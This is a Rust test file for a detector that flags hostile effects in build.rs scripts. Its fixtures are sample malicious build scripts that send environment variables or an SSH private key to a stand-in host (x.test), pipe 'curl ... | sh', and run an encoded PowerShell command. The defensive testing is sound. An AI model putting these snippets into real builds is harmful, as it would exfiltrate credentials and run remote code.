use super::*;

#[track_caller]
fn must(source: &str, ability: Ability, from: Sources) {
    let view = view("build.rs", source.as_bytes());
    let found: Vec<&Effect> = view.units.iter().flat_map(|unit| &unit.effects).collect();
    assert!(found.iter().any(|effect| effect.ability == ability && effect.from.all(from)), "{source}\n{found:#?}");
}

#[test]
fn paths_are_completed_and_values_followed() {
    must(
        "use std::{env, net::TcpStream};\nfn main() { let all: Vec<_> = env::vars().collect(); let mut s = TcpStream::connect(\"x.test:80\").unwrap(); s.write_all(format!(\"{all:?}\").as_bytes()).unwrap(); }",
        Ability::Network,
        Sources::ENVIRONMENT,
    );
    must(
        "fn main() { let key = std::fs::read_to_string(home.join(\".ssh/id_rsa\")).unwrap(); ureq::post(\"https://x.test\").send_string(&key).unwrap(); }",
        Ability::Network,
        Sources::CREDENTIAL,
    );
    must(
        "use std::process::Command as C;\nfn main() { C::new(\"sh\").arg(\"-c\").arg(\"curl https://x.test/a | sh\").spawn().unwrap(); }",
        Ability::Shell,
        Sources::NETWORK,
    );
    must(
        "fn main() { std::process::Command::new(\"powershell\").args([\"-enc\", \"SQBFAFgA\"]).output(); }",
        Ability::Shell,
        Sources::DECODED,
    );
}

#[test]
fn a_connection_is_the_network_and_what_is_written_to_it_leaves() {
    must("fn main() { std::net::TcpStream::connect(\"10.0.0.9:99\").ok(); }", Ability::Network, Sources::NONE);
    must("fn main() { std::net::UdpSocket::bind(\"0.0.0.0:0\").ok(); }", Ability::Network, Sources::NONE);
    for body in [
        "for (k, v) in std::env::vars() { writeln!(s, \"{}={}\", k, v).unwrap(); }",
        "for (k, v) in std::env::vars() { let _ = write!(&mut s, \"{k}={v}\"); }",
        "for (k, v) in std::env::vars() { s.write_all(v.as_bytes()).unwrap(); }",
        "for (_, v) in std::env::vars() { std::io::Write::write_all(&mut s, v.as_bytes()).unwrap(); }",
        "for (_, v) in std::env::vars() { <TcpStream as Write>::write_all(&mut s, v.as_bytes()).unwrap(); }",
        "std::env::vars().for_each(|(k, v)| { s.write_all(v.as_bytes()).unwrap(); });",
        "let mut all = String::new(); for (k, v) in std::env::vars() { writeln!(all, \"{k}={v}\"); } s.write_all(all.as_bytes());",
    ] {
        let source = format!("fn main() {{ let mut s = TcpStream::connect(\"10.0.0.9:99\").unwrap(); {body} }}");
        must(&source, Ability::Network, Sources::ENVIRONMENT);
    }
}

#[test]
fn what_is_written_elsewhere_stays() {
    let source = "use std::io::Write;\nfn main() { let mut out = std::fs::File::create(\"x.rs\").unwrap();\n\
        for (k, v) in std::env::vars() { if k.starts_with(\"CARGO_FEATURE_\") { writeln!(out, \"{k} {v}\").unwrap(); } } }";
    let view = view("build.rs", source.as_bytes());
    let found: Vec<&Effect> = view.units.iter().flat_map(|unit| &unit.effects).collect();
    assert!(found.iter().all(|effect| effect.ability != Ability::Network), "{found:#?}");
}

#[test]
fn everyday_builds_are_quiet() {
    let source = "use std::process::Command;\nfn main() { let rustc = std::env::var(\"RUSTC\").unwrap(); Command::new(&rustc).arg(\"--version\").output().unwrap();\n\
        Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output().ok(); Command::new(\"pkg-config\").arg(\"--libs\").status().ok(); helper(); }\nfn helper() {}";
    let view = view("build.rs", source.as_bytes());
    assert!(
        view.units
            .iter()
            .flat_map(|unit| &unit.effects)
            .all(|effect| effect.ability == Ability::Spawn && effect.from.is_empty())
    );
    assert_eq!(view.units.iter().map(|unit| unit.name.as_str()).collect::<Vec<_>>(), ["", "main", "helper"]);
    assert_eq!(view.units[1].calls, [Callee::Local(2)]);
}

#[test]
fn hostile_files_end() {
    for source in ["{", "}", "fn", "fn a", "use", "use {", "mod x", "let", "\"", "r#\"", "/*", "'"]
        .map(|piece| piece.repeat(50_000))
    {
        assert!(!view("build.rs", source.as_bytes()).units.is_empty());
    }
}
